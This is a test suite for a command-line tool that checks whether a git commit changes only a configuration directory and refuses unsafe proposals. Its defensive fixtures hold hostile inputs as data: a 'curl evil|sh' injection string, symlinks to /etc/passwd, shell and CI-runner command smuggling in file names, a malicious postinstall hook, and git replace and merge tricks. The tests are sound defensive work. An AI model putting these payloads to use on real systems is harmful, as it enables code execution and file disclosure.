import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { lstatSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { CommandError } from "../../../cli/command-error.ts";
import { propose } from "../../../cli/proposal/proposed.ts";
import { repository } from "../../../sandbox/toolchain/place.ts";
import { type Change, Clone } from "./clone.ts";

const entry = join(repository, "cli/proposal.ts");
const link = (content: string): Change => ({ mode: "120000", content });

describe("a proposal", function () {
  this.timeout(60_000);
  let clone: Clone;
  const at = (path: string): string => join(clone.folder, path);
  const command = (...args: string[]) => {
    const { status, stdout, stderr } = spawnSync(process.execPath, [entry, ...args], {
      cwd: clone.folder,
      encoding: "utf8",
    });
    return { status, stdout, stderr };
  };

  before(() => {
    clone = new Clone({
      "config/README.md": "# The configuration\n",
      "config/prod.yaml": "stack: prod\n\na: 1\n",
      "config/security.yaml": "break-glass: {}\n",
      "cli/check.ts": "export {};\n",
      "package.json": "{}\n",
    });
  });

  after(() => {
    clone.remove();
  });

  const accepted: { what: string; changes: Record<string, Change>; configurationOnly: boolean; config: string[] }[] = [
    {
      what: "an edit of the configuration",
      changes: { "config/prod.yaml": "stack: prod\n" },
      configurationOnly: true,
      config: ["prod.yaml", "security.yaml"],
    },
    {
      what: "a new file, and one in a directory",
      changes: { "config/audit.yaml": "a: 1\n", "config/teams/payments.yaml": "b: 1\n" },
      configurationOnly: true,
      config: ["audit.yaml", "prod.yaml", "security.yaml", "teams/payments.yaml"],
    },
    {
      what: "a file that is taken away",
      changes: { "config/security.yaml": undefined },
      configurationOnly: true,
      config: ["prod.yaml"],
    },
    {
      what: "an install script",
      changes: { "package.json": '{"scripts":{"postinstall":"touch owned"}}' },
      configurationOnly: false,
      config: ["prod.yaml", "security.yaml"],
    },
    {
      what: "code beside configuration",
      changes: { "cli/check.ts": "process.exit(0);\n", "config/prod.yaml": "stack: prod\n" },
      configurationOnly: false,
      config: ["prod.yaml", "security.yaml"],
    },
    {
      what: "a page beside the configuration",
      changes: { "config/README.md": "# Approved\n" },
      configurationOnly: false,
      config: ["prod.yaml", "security.yaml"],
    },
    {
      what: "YAML elsewhere",
      changes: { ".github/workflows/evil.yaml": "on: push\n", "Pulumi.prod.yaml": "config: {}\n" },
      configurationOnly: false,
      config: ["prod.yaml", "security.yaml"],
    },
    {
      what: "a name that only seems to be of the configuration",
      changes: { "config.yaml": "a: 1\n", "config/prod.yaml\n": "a: 1\n", "Config/prod.yaml": "a: 1\n" },
      configurationOnly: false,
      config: ["prod.yaml", "security.yaml"],
    },
    {
      what: "a directory in place of a file",
      changes: { "config/README.md": undefined, "config/README/more.yaml": "a: 1\n" },
      configurationOnly: false,
      config: ["README/more.yaml", "prod.yaml", "security.yaml"],
    },
    { what: "nothing at all", changes: {}, configurationOnly: true, config: ["prod.yaml", "security.yaml"] },
  ];
  for (const { what, changes, configurationOnly, config } of accepted) {
    it(`with ${what} ${configurationOnly ? "is" : "is not"} of the configuration only`, () => {
      const proposed = propose(clone.folder, clone.commit(changes));
      assert.equal(proposed.configurationOnly, configurationOnly);
      assert.deepEqual([...proposed.files.keys()].sort(), config);
      for (const [path, content] of proposed.files) {
        const change = changes[`config/${path}`];
        if (typeof change === "string") assert.equal(content.toString(), change);
      }
    });
  }

  const refused: { what: string; changes: Record<string, Change>; says: RegExp }[] = [
    {
      what: "a link to a file of the machine",
      changes: { "config/prod.yaml": link("/etc/passwd") },
      says: /"config\/prod\.yaml" is a symbolic link/,
    },
    {
      what: "a link in place of a directory",
      changes: { "config/teams": link("/proc/self") },
      says: /"config\/teams" is a symbolic link/,
    },
    {
      what: "a link in place of the configuration",
      changes: {
        "config/README.md": undefined,
        "config/prod.yaml": undefined,
        "config/security.yaml": undefined,
        config: link("/etc"),
      },
      says: /"config" is a symbolic link/,
    },
    {
      what: "a submodule",
      changes: { "config/more.yaml": { mode: "160000", content: "1".repeat(40) } },
      says: /"config\/more\.yaml" is a submodule/,
    },
    {
      what: "an executable",
      changes: { "config/prod.yaml": { mode: "100755", content: "stack: prod\n" } },
      says: /"config\/prod\.yaml" is an executable/,
    },
    {
      what: "a command for a name",
      changes: { "config/$(touch owned).yaml": "a: 1\n" },
      says: /"config\/\$\(touch owned\)\.yaml": name it NAME\.yaml/,
    },
    {
      what: "a line break in a name, with a command for the runner",
      changes: { "config/a\n::add-mask::b.yaml": "a: 1\n" },
      says: /"config\/a\\n::add-mask::b\.yaml": name it/,
    },
    { what: "an option for a name", changes: { "config/--output=x.yaml": "a: 1\n" }, says: /name it/ },
    { what: "a hidden name", changes: { "config/.hidden.yaml": "a: 1\n" }, says: /name it/ },
    { what: "another ending", changes: { "config/more.yml": "a: 1\n" }, says: /"config\/more\.yml": name it/ },
    { what: "a capital ending", changes: { "config/MORE.YAML": "a: 1\n" }, says: /name it/ },
    {
      what: "a huge file",
      changes: { "config/prod.yaml": "a".repeat(1_000_001) },
      says: /"config\/prod\.yaml" has 1000001 bytes; 1000000 is the most/,
    },
    {
      what: "hundreds of files",
      changes: Object.fromEntries(Array.from({ length: 500 }, (_, n) => [`config/f${n}.yaml`, "a: 1\n"])),
      says: /config\/ would hold 503 files; 500 is the most/,
    },
    {
      what: "no configuration any more",
      changes: { "config/README.md": undefined, "config/prod.yaml": undefined, "config/security.yaml": undefined },
      says: /it would leave no file in config\//,
    },
  ];
  for (const { what, changes, says } of refused) {
    it(`with ${what} is refused`, () => {
      const head = clone.commit(changes);
      assert.throws(
        () => propose(clone.folder, head),
        (error) => {
          assert.ok(error instanceof CommandError);
          assert.match(error.message, /^The proposal is refused:\n[^\n]*$/);
          assert.match(error.message, says);
          return true;
        },
      );
    });
  }

  it("is what merging it would change, on an old branch too", () => {
    const old = clone.commit({ "config/prod.yaml": "stack: prod\n\na: 2\n" });
    clone.git("checkout", "--quiet", "--detach", clone.commit({ "config/audit.yaml": "a: 1\n" }));
    const { configurationOnly, files } = propose(clone.folder, old);
    assert.ok(configurationOnly);
    assert.deepEqual([...files.keys()].sort(), ["audit.yaml", "prod.yaml", "security.yaml"]);
    assert.match(String(files.get("prod.yaml")), /a: 2/);
    clone.git("checkout", "--quiet", "main");
  });

  it("cannot hide code behind a merge of its own", () => {
    // Against the second parent nothing but configuration differs; merging brings the code of the first.
    const code = clone.commit({ "cli/check.ts": "process.exit(0);\n" });
    const merge = clone.commit({ "config/prod.yaml": "stack: prod\n" }, [code, "HEAD"]);
    assert.equal(propose(clone.folder, merge).configurationOnly, false);
    // What the first commit did and the last took back changes nothing.
    const back = clone.commit({ "cli/check.ts": "export {};\n", "config/prod.yaml": "stack: prod\n" }, [code]);
    assert.equal(propose(clone.folder, back).configurationOnly, true);
  });

  it("cannot replace one object of git by another", () => {
    const harmless = clone.commit({ "config/prod.yaml": "stack: prod\n" });
    const evil = clone.commit({ "cli/check.ts": "process.exit(0);\n" });
    clone.git("replace", evil, harmless);
    assert.equal(propose(clone.folder, evil).configurationOnly, false);
  });

  it("cannot have a name twice, of which one is judged and the other merged", () => {
    const tree = (...entries: string[]): string =>
      execFileSync("git", ["mktree"], { cwd: clone.folder, input: `${entries.join("\n")}\n`, encoding: "utf8" }).trim();
    const [one, other] = ["HEAD:config/prod.yaml", "HEAD:cli/check.ts"].map((file) => clone.git("rev-parse", file));
    const config = tree(`100644 blob ${one ?? ""}\tprod.yaml`, `100644 blob ${other ?? ""}\tprod.yaml`);
    const head = clone.git("commit-tree", tree(`040000 tree ${config}\tconfig`), "-p", "HEAD", "-m", "x");
    assert.throws(() => propose(clone.folder, head), /a name stands twice in a directory/);
  });

  it("that contradicts what is there now is refused", () => {
    const contrary = clone.commit({ "config/prod.yaml": "stack: prod\n\na: 3\n" });
    const stranger = clone.commit({ "config/prod.yaml": "stack: prod\n" }, []);
    clone.git("checkout", "--quiet", "--detach", clone.commit({ "config/prod.yaml": "stack: prod\n\na: 2\n" }));
    assert.throws(() => propose(clone.folder, contrary), /^Error: The proposal and what is there now contradict/);
    assert.throws(() => propose(clone.folder, stranger), /^Error: The proposal shares no history/);
    clone.git("checkout", "--quiet", "main");
  });

  it("is named by the full id of a commit alone", () => {
    const head = clone.commit({ "config/prod.yaml": "stack: prod\n" });
    clone.git("branch", "--force", "proposal", head);
    for (const name of ["proposal", "HEAD", head.slice(0, 12), `${head}^`, 'x";curl evil|sh;"', "--help", ""]) {
      assert.throws(() => propose(clone.folder, name), /is no commit: give its full id/, name);
    }
    for (const id of ["f".repeat(40), clone.git("rev-parse", "HEAD^{tree}")]) {
      assert.throws(() => propose(clone.folder, id), /^Error: git has no commit [0-9a-f]{40} here: fetch it first\.$/);
    }
  });

  it("replaces config/ and touches nothing else; what is refused touches nothing", () => {
    const head = clone.commit({
      "config/README.md": undefined,
      "config/README/more.yaml": "a: 1\n",
      "config/prod.yaml": "stack: prod\n",
      "cli/check.ts": "process.exit(0);\n",
    });
    const refusal = command(clone.commit({ "config/\u001b[2J::x::.yaml": "a: 1\n" }));
    assert.deepEqual([refusal.status, refusal.stdout], [1, ""]);
    assert.match(refusal.stderr, /^The proposal is refused:\n {2}"config\/\\u001b\[2J::x::\.yaml": name it [^\n]*\n$/);
    assert.equal(clone.git("status", "--porcelain"), "");

    assert.deepEqual(command(head), { status: 0, stdout: "configuration-only=false\n", stderr: "" });
    assert.deepEqual(readdirSync(at("config"), { recursive: true }).sort(), [
      "README",
      "README/more.yaml",
      "prod.yaml",
      "security.yaml",
    ]);
    assert.equal(readFileSync(at("config/prod.yaml"), "utf8"), "stack: prod\n");
    assert.equal(lstatSync(at("config/prod.yaml")).mode & 0o170111, 0o100000);
    assert.equal(clone.git("status", "--porcelain", "--", ":!config"), "");

    assert.match(command(head).stderr, /^config\/ has changes that are not committed: they would be lost\.\n$/);
  });
});
